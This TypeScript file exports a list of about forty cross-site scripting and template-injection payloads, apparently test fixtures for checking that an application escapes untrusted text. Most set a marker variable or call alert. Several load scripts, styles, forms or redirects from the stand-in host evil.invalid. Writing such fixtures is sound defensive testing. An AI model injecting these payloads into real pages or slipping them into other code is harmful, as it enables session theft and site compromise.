/**
 * Text that becomes something else where it is not treated as text. Each that runs sets `__xss`, calls `alert` or
 * asks `evil.invalid` for something.
 */
export const PAYLOADS: readonly string[] = [
  "<script>window.__xss=1</script>",
  "<script src=https://evil.invalid/x.js></script>",
  "</script><script>window.__xss=2</script>",
  "<ScRiPt>alert(3)</sCrIpT>",
  "<img src=x onerror=window.__xss=4>",
  '"><img src=https://evil.invalid/i.png onerror="alert(5)">',
  "' onmouseover='window.__xss=6' x='",
  '" autofocus onfocus=alert(7) x="',
  "<svg onload=window.__xss=8>",
  "<svg><script>alert(9)</script></svg>",
  '<svg><a xlink:href="javascript:alert(10)"><text y=20>x</text></a></svg>',
  "<math><mi xlink:href=javascript:alert(11)>x</mi></math>",
  "javascript:alert(12)",
  "JaVaScRiPt:window.__xss=13//",
  "java\tscript:alert(14)",
  '<a href="javascript:window.__xss=15">x</a>',
  "<iframe src=javascript:alert(16)></iframe>",
  "<iframe srcdoc='<script>parent.__xss=17</script>'>",
  "<object data=https://evil.invalid/o></object>",
  "<embed src=https://evil.invalid/e>",
  "<base href=https://evil.invalid/>",
  "<link rel=stylesheet href=https://evil.invalid/s.css>",
  "<style>@import 'https://evil.invalid/c.css';</style>",
  "<div style=\"background:url('https://evil.invalid/b.png')\">x</div>",
  "</style><style>*{background:url(https://evil.invalid/d)}</style>",
  "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
  "<form action=https://evil.invalid/f><button autofocus>x</button></form>",
  "</textarea></title></select></template></noscript><img src=x onerror=alert(27)>",
  "<!--><img src=x onerror=alert(28)>-->",
  "]]><img src=x onerror=alert(29)>",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is what it tries
  "${alert(30)}",
  "{{constructor.constructor('window.__xss=31')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is what it tries
  "#{7*7} <%= 7*7 %> [[${7*7}]]",
  "&lt;script&gt;alert(33)&lt;/script&gt; &#60;img&#62;",
  "\\u003cimg src=x onerror=alert(34)\\u003e",
  "＜script＞alert(35)＜/script＞",
  "‮>tpircs<)63(trela>tpircs/<",
  "a\u200b\u2066<b onclick=alert(37)>\u2069z\u0301\u0301\u0301",
  "x' || alert(38) || '",
  "-->'\"><details open ontoggle=window.__xss=39>",
  "<video><source onerror=alert(40)></video>",
  "__proto__",
];

/** All in one text, for fields that are long enough. */
export const ALL = PAYLOADS.join(" ¶ ");
